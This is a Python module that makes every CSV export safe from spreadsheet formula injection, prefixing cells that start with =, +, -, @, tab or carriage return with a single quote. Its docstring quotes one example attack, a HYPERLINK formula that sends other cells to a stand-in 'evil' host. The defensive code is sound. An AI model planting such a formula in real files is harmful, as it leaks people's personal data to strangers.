"""The one CSV writer of every file the product writes: no cell is ever a live formula.

A CSV file is opened in a spreadsheet, which evaluates a cell starting with ``=``,
``+``, ``-`` or ``@`` (and, in some, one starting with a tab or a carriage return) as
a formula: a respondent named ``=HYPERLINK("https://evil/?"&B2;"x")`` would send the
secretariat's other cells to a stranger when the export of everyone's personal data is
opened. As OWASP advises (CSV injection), such a cell is written with a leading single
quote, which spreadsheets show as text and never evaluate. A plain number (``-12.50``,
``-3,5``) is not a formula and is written as it is, so that amounts stay numbers.
Exports, reports and published lottery files all go through :func:`writer` or
:func:`dict_writer`; a test plants formulas in every field a person can set and reads
every CSV written.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Mapping
from typing import IO, TYPE_CHECKING, Any

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralise(value: object) -> object:
    """``value`` as a spreadsheet will show it and never evaluate it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer``'s ``writerow``/``writerows``, each cell neutralised first."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: IO[str], **options: Any) -> SafeWriter:
    """A CSV writer over ``stream`` (``csv.writer``'s options) that writes no formula."""
    return SafeWriter(stream, **options)


if TYPE_CHECKING:
    _DictWriter = csv.DictWriter[str]
else:  # not subscriptable at run time
    _DictWriter = csv.DictWriter


class SafeDictWriter(_DictWriter):
    """``csv.DictWriter`` whose rows are neutralised cell by cell."""

    def __init__(self, stream: IO[str], fieldnames: Collection[str], **options: Any) -> None:
        super().__init__(stream, fieldnames, **options)

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def dict_writer(stream: IO[str], fieldnames: Collection[str], **options: Any) -> SafeDictWriter:
    """A ``csv.DictWriter`` over ``stream`` that writes no formula."""
    return SafeDictWriter(stream, fieldnames, **options)
